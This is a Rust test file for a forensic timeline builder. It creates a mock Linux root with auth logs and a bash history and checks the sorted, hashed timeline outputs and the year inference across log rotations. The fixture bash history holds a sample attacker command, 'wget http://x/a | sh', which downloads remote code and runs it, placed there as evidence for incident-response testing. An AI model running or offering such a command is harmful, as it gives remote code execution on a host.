//! The whole run over a small examined root: outputs exist, are sorted, cut by the window, hashed.

use super::*;

/// Runs the timeline over `root` with the one walker.
fn run_on(root: &Path, opts: &Options) -> Result<Summary, TimelineError> {
    let roots = [RootIn {
        path: root.to_owned(),
        prefix: String::new(),
        device: None,
        partition: None,
        part_uuid: None,
        part_label: None,
    }];
    run(&roots, opts, &mut |_| {}, |r, stage| {
        crate::examine::walk::walk(r, stage)
            .map(|_| "the mounted walk".to_owned())
            .map_err(|e| crate::error_chain(&e))
    })
}

fn set_mtime(p: &Path, secs: i64) {
    let t = std::time::UNIX_EPOCH + std::time::Duration::from_secs(secs as u64);
    File::options()
        .write(true)
        .open(p)
        .unwrap()
        .set_modified(t)
        .unwrap();
}

#[test]
fn a_root_becomes_a_sorted_hashed_timeline() {
    let root = tempfile::tempdir().unwrap();
    let r = root.path();
    fs::create_dir_all(r.join("etc")).unwrap();
    fs::create_dir_all(r.join("var/log")).unwrap();
    fs::create_dir_all(r.join("root")).unwrap();
    fs::write(r.join("etc/hostname"), "web1\n").unwrap();
    fs::write(r.join("etc/timezone"), "+01:00\n").unwrap();
    fs::write(
        r.join("var/log/auth.log"),
        "Mar  3 10:00:00 web1 sshd[1]: Accepted password for root from 203.0.113.9 port 22 ssh2\n\
         junk\n",
    )
    .unwrap();
    set_mtime(&r.join("var/log/auth.log"), 1_709_500_000); // 2024-03-03
    use std::io::Write as _;
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(b"Feb 28 09:00:00 web1 useradd[2]: new user: name=x, UID=1001\n")
        .unwrap();
    fs::write(r.join("var/log/auth.log.2.gz"), gz.finish().unwrap()).unwrap();
    set_mtime(&r.join("var/log/auth.log.2.gz"), 1_709_200_000); // 2024-02-29
    fs::write(
        r.join("root/.bash_history"),
        "#1709460000\nwget http://x/a | sh\n#1609460000\nls\n",
    )
    .unwrap();

    let out = tempfile::tempdir().unwrap();
    let opts = Options {
        out: out.path().join("tl"),
        from: parse_time("2024-01-01", false),
        to: None,
        sort_budget: 300, // force spills
        ..Default::default()
    };
    let s = run_on(r, &opts).unwrap();
    assert_eq!(s.host, "web1");
    assert_eq!(s.zone.name, "+01:00");
    // etc, etc/hostname, etc/timezone, var, var/log, 2 logs, root, root/.bash_history
    assert_eq!(s.bodyfile_entries, 9);
    assert_eq!(s.logs.len(), 3);
    assert_eq!(
        s.logs[0].path, "/var/log/auth.log.2.gz",
        "oldest rotation first"
    );
    assert_eq!(s.unparsed, 1);
    assert_eq!(s.outside_window, 1, "the 2020 command is before --from");
    assert_eq!(s.timeline.events, 3);
    let first = s.timeline.first_suspicious.as_ref().unwrap();
    assert_eq!(first.datetime, "2024-02-28T08:00:00+00:00");
    assert_eq!(first.why, "user account created");

    let d = &opts.out;
    let jsonl = fs::read_to_string(d.join("timeline.jsonl")).unwrap();
    let times: Vec<i64> = jsonl
        .lines()
        .map(|l| {
            serde_json::from_str::<serde_json::Value>(l).unwrap()["timestamp"]
                .as_i64()
                .unwrap()
        })
        .collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "sorted: {times:?}");
    assert_eq!(
        fs::read_to_string(d.join("timeline.csv"))
            .unwrap()
            .lines()
            .count(),
        4
    );
    let body = fs::read_to_string(d.join("bodyfile.txt")).unwrap();
    assert_eq!(body.lines().count(), 9);
    assert!(body.contains("|/var/log/auth.log.2.gz|"), "{body}");
    assert!(
        fs::read_to_string(d.join("unparsed.jsonl"))
            .unwrap()
            .contains("junk")
    );
    assert!(!d.join(".sort").exists());

    // SHA256SUMS checks with coreutils.
    let o = std::process::Command::new("sha256sum")
        .arg("-c")
        .arg("SHA256SUMS")
        .current_dir(d)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
    assert_eq!(
        String::from_utf8_lossy(&o.stdout).matches(": OK").count(),
        OUTPUTS.len()
    );

    // A second run into the same directory is refused rather than mixed in.
    assert!(matches!(
        run_on(r, &opts),
        Err(TimelineError::OutNotEmpty { .. })
    ));
}

#[test]
fn window_times_parse() {
    assert_eq!(parse_time("1970-01-02", false), Some(86_400_000_000));
    assert_eq!(parse_time("1970-01-01", true), Some(86_400_000_000 - 1));
    assert_eq!(parse_time("1970-01-01 00:01", false), Some(60_000_000));
    assert_eq!(parse_time("1970-01-01T01:00:00+01:00", false), Some(0));
    assert_eq!(parse_time("@5", false), Some(5_000_000));
    assert_eq!(parse_time("yesterday", false), None);
}

/// Three rotations of auth.log whose rotated copies were touched later (mtime 2025-12-01, as a copy
/// without `-p` leaves them): the newest is read first, and each older one's year is bounded by the
/// newer one's first line, through the chain.
#[test]
fn rotation_order_bounds_the_year_of_older_rotations() {
    let root = tempfile::tempdir().unwrap();
    let r = root.path();
    fs::create_dir_all(r.join("var/log")).unwrap();
    let line = |t: &str, n: u32| {
        format!("{t} web1 sshd[{n}]: Failed password for root from 198.51.100.{n} port 22 ssh2\n")
    };
    let files = [
        ("auth.log", line("Mar  1 09:00:00", 1), 1_741_132_800), // mtime 2025-03-05
        ("auth.log.1", line("Apr 10 10:00:00", 2), 1_764_547_200), // 2025-12-01
        ("auth.log.2", line("May 20 11:00:00", 3), 1_764_547_200), // 2025-12-01
    ];
    for (name, text, mtime) in &files {
        fs::write(r.join("var/log").join(name), text).unwrap();
        set_mtime(&r.join("var/log").join(name), *mtime);
    }
    let out = tempfile::tempdir().unwrap();
    let opts = Options {
        out: out.path().join("tl"),
        tz: Some("UTC".into()),
        ..Default::default()
    };
    let s = run_on(r, &opts).unwrap();
    let paths: Vec<&str> = s.logs.iter().map(|l| l.path.as_str()).collect();
    assert_eq!(
        paths,
        [
            "/var/log/auth.log.2",
            "/var/log/auth.log.1",
            "/var/log/auth.log"
        ],
        "the summary stays oldest first"
    );
    let jsonl = fs::read_to_string(out.path().join("tl/timeline.jsonl")).unwrap();
    let got: Vec<(String, String, String)> = jsonl
        .lines()
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            (
                v["datetime"].as_str().unwrap().to_owned(),
                v["path"].as_str().unwrap().to_owned(),
                v["year_inferred"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect();
    assert_eq!(got[0].0, "2023-05-20T11:00:00+00:00", "{got:#?}");
    assert_eq!(got[0].1, "/var/log/auth.log.2");
    assert!(got[0].2.contains("rotation order"), "{got:#?}");
    assert_eq!(got[1].0, "2024-04-10T10:00:00+00:00", "{got:#?}");
    assert!(
        got[1]
            .2
            .contains("before the first line of /var/log/auth.log ")
    );
    assert_eq!(got[2].0, "2025-03-01T09:00:00+00:00");
    assert!(got[2].2.starts_with("from the file's mtime 2025-03-05"));
    let note = s.logs[0].stats.year_note.as_deref().unwrap();
    assert!(note.contains("/var/log/auth.log.1"), "{note}");
}
